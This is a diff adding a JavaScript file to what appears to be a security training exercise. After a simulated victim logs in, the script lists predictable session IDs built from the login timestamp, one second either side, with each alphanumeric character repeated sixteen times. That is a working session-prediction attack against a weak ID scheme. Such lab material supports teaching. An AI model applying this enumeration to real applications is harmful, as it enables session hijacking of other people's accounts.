@@ -0,0 +1,60 @@
+document.addEventListener('DOMContentLoaded', function() {
+    // Get DOM elements
+    const victimLoginButton = document.getElementById('victim-login-btn');
+    const victimLoginTime = document.getElementById('victim-login-time');
+    const victimErrorMessage = document.getElementById('victim-error-message');
+    const candidates = document.getElementById('candidates');
+
+    const letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
+
+    victimLoginButton.addEventListener('click', function() {
+        fetch('/api/exercises/session/victim', {
+            method: 'POST',
+            headers: {
+                'Content-Type': 'application/json'
+            }
+        })
+        .then(response => response.json())
+        .then(data => {
+            if (data.success) {
+                victimErrorMessage.classList.add('hidden');
+                victimLoginTime.textContent = data.data.logged_in_at;
+                candidates.value = sessionCandidates(data.data.logged_in_at).join('\n');
+            } else {
+                victimErrorMessage.textContent = data.message || 'Failed to log the victim in';
+                victimErrorMessage.classList.remove('hidden');
+            }
+        })
+        .catch(error => {
+            console.error('Error:', error);
+            victimErrorMessage.textContent = 'An error occurred. Please try again.';
+            victimErrorMessage.classList.remove('hidden');
+        });
+    });
+
+    // List the predictable session IDs for a login time in the server's time
+    // zone, one second either side
+    function sessionCandidates(loggedInAt) {
+        // Keep the server's wall clock time by reading the digits as given
+        const [date, time] = loggedInAt.split('T');
+        const [year, month, day] = date.split('-').map(Number);
+        const [hour, minute, second] = time.slice(0, 8).split(':').map(Number);
+        const base = Date.UTC(year, month - 1, day, hour, minute, second);
+
+        const result = [];
+        [-1000, 0, 1000].forEach(offset => {
+            const prefix = formatTimestamp(new Date(base + offset));
+            for (const c of letters) {
+                result.push(prefix + ':' + c.repeat(16));
+            }
+        });
+        return result;
+    }
+
+    // Format a time the way the server does, as YYYYMMDDhhmmss
+    function formatTimestamp(date) {
+        const pad = n => String(n).padStart(2, '0');
+        return date.getUTCFullYear() + pad(date.getUTCMonth() + 1) + pad(date.getUTCDate()) +
+            pad(date.getUTCHours()) + pad(date.getUTCMinutes()) + pad(date.getUTCSeconds());
+    }
+});